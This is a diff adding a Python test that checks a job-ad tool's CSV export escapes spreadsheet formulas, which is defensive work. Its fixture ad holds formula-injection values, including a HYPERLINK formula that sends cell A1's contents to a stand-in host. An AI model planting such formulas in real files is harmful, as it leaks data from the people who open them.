@@ -224,3 +224,36 @@ def test_the_facts_of_every_counted_ad_are_written_as_csv(
     assert sum(r["social_media"] == "merit" for r in rows) == report.total.social_media_ads_merit_only > 0
     lines = [int(r["source"].rpartition("#")[2]) for r in rows]
     assert lines == sorted(lines)  # in line order: #10 after #9
+
+
+def test_the_facts_csv_writes_no_formula(engine: Engine, tmp_path: Path) -> None:
+    """A bug hunt, hJ: an ad (public, posted by anyone) titled ``=HYPERLINK(...)`` with a region ``+46 ...``
+    was written to ``--facts`` as it was, and Excel runs such a cell. Now it reads as text (a leading ``'``,
+    as the shortlist export writes); other cells are unchanged."""
+    import csv
+
+    text = (
+        "Vi söker en fiktiv kommunikatör som driver våra kanaler på Instagram och LinkedIn, skriver inlägg "
+        "och följer upp räckvidd och engagemang varje vecka."
+    )
+    ad = {
+        "id": "f1",
+        "headline": '=HYPERLINK("http://exempel.invalid/?"&A1,"Klicka")',
+        "description": {"text": text},
+        "publication_date": "2025-05-01T00:00:00",
+        "workplace_address": {"region": "+46 Exempellän", "municipality": "@SUM(1+1)"},
+        "occupation": {"label": "-Kommunikatör"},
+    }
+    corpus = tmp_path / "ads.jsonl"
+    corpus.write_text(json.dumps(ad, ensure_ascii=False) + "\n", encoding="utf-8")
+    out = tmp_path / "facts.csv"
+    measure(engine, [corpus], facts=out)
+    with out.open(encoding="utf-8", newline="") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert row["title"] == "'" + ad["headline"]
+    assert (row["region"], row["municipality"], row["occupation"]) == (
+        "'+46 Exempellän",
+        "'@SUM(1+1)",
+        "'-Kommunikatör",
+    )
+    assert row["key"] == "id:f1" and row["year"] == "2025" and row["lang"] == "sv"
